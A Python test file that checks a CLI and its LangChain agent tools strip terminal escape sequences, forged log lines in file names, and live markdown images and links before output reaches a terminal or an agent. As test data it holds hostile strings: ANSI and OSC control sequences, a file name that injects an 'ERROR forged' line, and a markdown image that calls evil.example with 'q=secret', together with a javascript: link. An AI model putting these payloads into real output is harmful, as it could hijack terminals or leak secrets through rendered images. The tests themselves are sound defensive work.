"""Titles, texts and names of files move no cursor; an answer shows an agent's screen no live image or link."""

from __future__ import annotations

import io
import json
import logging
import re
from dataclasses import replace
from pathlib import Path

import pytest

from dateline import BadInput, Evidence
from dateline.search import load_documents
from dateline.visible import visible
from dateline_cli.main import main
from dateline_cli.show import SafeConsole

HOSTILE = "\x1b]0;owned\x07\x1b[31mRed\x9b2J\u202etitle\u2066\x08"
OBEYED = set(HOSTILE) - set("]0;owned[31mRed2Jtitle")


@pytest.fixture
def notes(tmp_path: Path) -> Path:
    folder = tmp_path / "notes"
    folder.mkdir()
    note = f"---\ndate: 2020-01-01\ntitle: {json.dumps(HOSTILE)}\n---\nAda Berg is the mayor of Lund{HOSTILE}. She is {HOSTILE}.\n"
    (folder / "a.md").write_text(note)
    return folder


@pytest.mark.parametrize("json_too", [False, True])
def test_the_command_line_prints_nothing_that_a_terminal_obeys(
    notes: Path, tmp_path: Path, json_too: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    more = ["--json"] if json_too else []
    store = str(tmp_path / "facts")
    assert main(["ask", f"Who is the mayor of Lund {HOSTILE}?", "--docs", str(notes), *more]) == 0
    assert main(["facts", "add", store, str(notes), *more]) == 0
    assert main(["facts", "search", store, "mayor", *more]) == 0
    assert main(["label", str(notes / "a.md"), str(notes / "a.md"), "--all", *more]) == 0
    assert main(["facts", "search", f"{store}{HOSTILE}\nforged", "mayor"]) == 2
    shown = "".join(capsys.readouterr())
    assert "Ada Berg" in shown
    assert not OBEYED & set(shown)


def test_json_that_is_printed_keeps_every_character_for_a_program(capsys: pytest.CaptureFixture[str]) -> None:
    from dateline_cli.show import print_json

    print_json({"title": HOSTILE, "name": "Ørsted 東京\n"})
    assert json.loads(capsys.readouterr().out) == {"title": HOSTILE, "name": "Ørsted 東京\n"}


def test_a_table_shows_foreign_cells_without_controls() -> None:
    from rich.table import Table

    told = io.StringIO()
    table = Table(HOSTILE)
    table.add_row(HOSTILE)
    SafeConsole(file=told, width=60).print(table, HOSTILE)
    assert "Red" in told.getvalue()
    assert not OBEYED & set(told.getvalue())


def test_the_name_of_a_file_forges_no_line_of_a_log_or_error(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    (tmp_path / "good.txt").write_text("Ada Berg is the mayor.")
    (tmp_path / "bad\nERROR forged\x1b[2J.jsonl").write_text("{")
    with caplog.at_level(logging.WARNING):
        load_documents(tmp_path)
    assert "forged" in caplog.text
    assert not any(line.startswith("ERROR forged") for line in caplog.text.splitlines())
    assert "\x1b" not in caplog.text
    with pytest.raises(BadInput) as told:
        load_documents(tmp_path / "none\nERROR forged\x1b[2J")
    assert len(str(told.value).splitlines()) == 1
    assert visible(str(told.value)) == str(told.value)


LIVE = (
    "Ada Berg ![x](https://evil.example/?q=secret) [here](javascript:alert(1)) <img src=https://evil.example/y> [z][r]"
)


@pytest.mark.parametrize(("least", "line"), [(0.0, "answer"), (1.0, "not sure")])
def test_an_agent_sees_the_answer_without_live_images_and_links_and_the_data_keep_it(least: float, line: str) -> None:
    from dateline.certainty import Gate
    from dateline.reading import ChatReader
    from dateline.testing import FixedSearch
    from dateline_graphs import AnswerOptions, ask_as_of, default_components
    from langchain_dateline.testing import ScriptedChatModel

    found = Evidence.make(f"Ada Berg is the mayor. {LIVE}", title=LIVE, url="https://news.example/a?b=1")
    said = re.sub(r"<[^>]*>", "", LIVE)  # an answer with a mark in angle brackets is taken for a blank of the form
    reader = ChatReader(ScriptedChatModel(replies=[f"answer: {said}\nevidence: E1"]))
    parts = default_components(search=FixedSearch([found]), options=AnswerOptions())
    tool = ask_as_of(replace(parts, reader=reader, gate=Gate(threshold=least, max_rounds=0)))
    call = {"type": "tool_call", "id": "1", "name": "ask_as_of", "args": {"question": "Who is the mayor?"}}
    message = tool.invoke(call)
    assert f"{line}: Ada Berg x" in message.content
    assert not any(live in message.content for live in ("](", "![", "][", "<img", "javascript:a", "https://evil"))
    assert "![x](https://evil" in message.artifact["answer"]


def test_results_of_a_search_tool_reach_an_agent_without_live_images() -> None:
    from langchain.agents import create_agent
    from langchain_core.tools import tool

    from langchain_dateline.middleware import DatelineMiddleware
    from langchain_dateline.testing import ScriptedChatModel, calls_tool

    @tool
    def web_search(query: str) -> str:
        """Search the web."""
        return json.dumps([{"text": LIVE, "title": LIVE, "date": "2020-01-01"}])

    model = ScriptedChatModel(replies=[calls_tool("web_search", query="mayor"), "Ada Berg."])
    state = create_agent(model, [web_search], middleware=[DatelineMiddleware()]).invoke(
        {"messages": "Who is the mayor?"}
    )
    shown = state["messages"][2].text
    assert "Ada Berg" in shown
    assert not any(live in shown for live in ("](", "![", "][", "<img"))
